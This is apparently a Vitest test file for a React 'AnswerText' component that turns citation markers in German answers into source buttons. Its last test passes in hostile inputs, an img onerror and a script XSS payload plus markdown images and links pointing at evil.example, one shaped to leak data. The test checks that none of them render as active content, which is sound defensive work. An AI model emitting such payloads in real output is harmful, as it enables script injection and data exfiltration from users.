import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeAll, describe, expect, it, vi } from "vitest";

import { startTexts } from "../i18n";
import AnswerText from "./answer-text";
import type { Citation } from "./stream";

const CITATION: Citation = {
  n: 1,
  document_id: "d",
  document_name: "Handbuch.pdf",
  page: 3,
  paged: true,
  heading: "Reisekosten",
  passage_id: 7,
  quote: "14 Tage",
  available: true,
};

beforeAll(() => startTexts("de"));

describe("AnswerText", () => {
  it("turns a marker into a button that opens its source", async () => {
    const onCite = vi.fn();
    render(
      <AnswerText text="Innerhalb von **14 Tagen [1]**." citations={[CITATION]} onCite={onCite} />,
    );
    await userEvent.click(screen.getByRole("button", { name: "Quelle 1: Handbuch.pdf, Seite 3" }));
    expect(onCite).toHaveBeenCalledWith(CITATION);
  });

  it("leaves a marker without a source as text", () => {
    render(<AnswerText text="Falsch [9]." citations={[CITATION]} onCite={vi.fn()} />);
    expect(screen.queryByRole("button")).toBeNull();
    expect(screen.getByText("Falsch [9].")).toBeInTheDocument();
  });

  it.each([
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?d=1)",
    "[klick](https://evil.example)",
    "<script>alert(1)</script>",
    "[x]: https://evil.example\n\n![a][x]",
  ])("renders nothing active from %s", (text) => {
    const { container } = render(<AnswerText text={text} citations={[]} onCite={vi.fn()} />);
    expect(container.querySelector("a, img, script, iframe")).toBeNull();
  });
});
